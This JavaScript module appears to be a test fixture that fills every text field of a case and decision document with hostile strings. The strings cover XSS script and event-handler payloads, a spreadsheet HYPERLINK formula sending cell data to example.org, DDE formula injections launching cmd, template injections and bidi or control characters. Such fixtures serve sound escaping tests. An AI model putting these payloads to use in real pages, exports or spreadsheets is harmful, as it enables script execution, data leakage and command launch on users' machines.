// Texts that would be more than words if anything let them: markup, scripts, links, formulas, templates,
// signs that turn a line round. And a file that holds nothing else.

export const HOSTILE = [
  `"><script>alert("name")</script>`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(2)><animate onbegin=alert(3) attributeName=x></svg>`,
  `</textarea></title><script src="https://example.org/x.js"></script>`,
  `<iframe srcdoc="<script>parent.alert(4)</script>"></iframe>`,
  `<a href="javascript:alert(5)">press</a> <base href="https://example.org/">`,
  `javascript:alert(6)`,
  `https://example.org/?all=of-it`,
  `[press](javascript:alert(7)) ![seen](https://example.org/pixel.png)`,
  `=HYPERLINK("https://example.org/?"&A1,"press")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3\t=1+1`,
  `{{constructor.constructor("alert(8)")()}} \${alert(9)} <%= alert(10) %>`,
  `<style>body{display:none}</style><link rel=stylesheet href=https://example.org/x.css>`,
  `\u202etxet siht nrut\u202c \u200b\u0000\u001b[2J`,
];

/** Puts hostile words wherever a document holds words, and leaves the rest as it is. */
export function poison(document) {
  let turn = 0;
  const words = () => HOSTILE[turn++ % HOSTILE.length];
  document.case.name = HOSTILE[0];
  document.app = { name: words(), version: words().slice(0, 60) };
  for (const { agreements } of document.stages) {
    for (const { step } of agreements.filter(({ step }) => step.given)) {
      step.given.explained_by = words();
      step.given.language = words();
      step.given.interpreter = words();
    }
  }
  for (const { entry } of document.answers) {
    if (!entry.answer) continue;
    entry.own_words = words();
    entry.observed = words();
    const { value } = entry.answer;
    for (const kind of ["text", "note"]) if (value?.[kind]) value[kind] = words().replaceAll(/[\t\u0000]/g, " ");
    if (entry.answer.not_answered?.not_asked) entry.answer.not_answered.not_asked = words();
  }
  document.decision.reasons = HOSTILE.join("\n");
  document.decision.decided_by = words();
  if (document.decision.redirection_reason) document.decision.redirection_reason = words();
  return document;
}
